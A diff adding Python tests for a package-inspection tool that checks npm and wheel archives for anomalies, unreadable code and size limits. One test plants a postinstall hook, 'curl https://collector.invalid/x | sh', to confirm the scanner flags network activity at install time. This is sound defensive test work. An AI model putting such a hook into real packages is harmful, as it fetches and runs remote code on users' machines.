@@ -1,0 +1,57 @@
+"""From the bytes of an artifact to its contents."""
+
+from pratique.analysis.reading import open_part, read_contents, unread
+from pratique.analysis.subject import Context
+from pratique.archive import DEFAULT_LIMITS
+from pratique.core.tree import Tree
+from tests.analysis.inspecting import _part, npm, package_json, wheel
+from tests.builders import tgz, zipped
+
+
+def test_bytes_that_are_no_archive_are_an_anomaly() -> None:
+    opened = open_part(_part("a-1.tgz", b"nothing", "1.0.0"), b"nothing", DEFAULT_LIMITS)
+    assert 1 == len(opened.tree.anomalies)
+    assert "a-1.tgz" == opened.tree.omitted[0].path
+
+
+def test_what_a_hook_s_command_line_does_is_a_fact_of_the_manifest() -> None:
+    manifest = package_json(scripts={"postinstall": "curl https://collector.invalid/x | sh"})
+    inspection = npm({"package.json": manifest, "index.js": "1"}).inspection
+    assert "network (install)" in inspection.capabilities
+
+
+def test_code_that_could_not_be_read_is_unread_and_incomplete() -> None:
+    broken = "def (:\n" * 50
+    inspection = wheel({"sample/__init__.py": broken}).inspection
+    assert ["sample/__init__.py"] == [item.path for item in inspection.unread]
+    assert not inspection.complete
+
+
+def test_unread_tests_are_told_and_do_not_make_it_incomplete() -> None:
+    broken = "def (:\n" * 50
+    inspection = wheel({"sample/__init__.py": "x = 1\n", "tests/test_x.py": broken}).inspection
+    assert [("tests/test_x.py", False)] == [(item.path, item.reached) for item in inspection.unread]
+    assert inspection.complete
+
+
+def test_what_the_baseline_left_unread_in_the_same_bytes_hides_nothing_new() -> None:
+    broken = "def (:\n" * 50
+    inspection = wheel({"sample/__init__.py": broken}, {"sample/__init__.py": broken}).inspection
+    assert [True] == [item.in_baseline for item in inspection.unread]
+
+
+def test_equal_files_are_read_once() -> None:
+    data = zipped({"a.py": "x = 1\n", "b.py": "x = 1\n"})
+    made = []
+    opened = open_part(_part("s-1-py3-none-any.whl", data, "1.0.0"), data, DEFAULT_LIMITS)
+    read_contents(opened, {}, lambda key, _facts: made.append(key))
+    assert 1 == len(made)
+
+
+def test_a_file_too_large_to_read_counts_unless_nothing_runs_it() -> None:
+    data = tgz({"package.json": package_json(), "big.js": "x" * 2000, "big.png": "x" * 2000})
+    limits = DEFAULT_LIMITS.__class__(max_file_bytes=1000)
+    part = _part("a-1.0.0.tgz", data, "1.0.0")
+    contents = read_contents(open_part(part, data, limits), {}, lambda _key, _facts: None)
+    assert ["big.js"] == [item.path for item in unread(contents, Tree(()))]
+    assert Context.CALLED is contents.context("big.js")
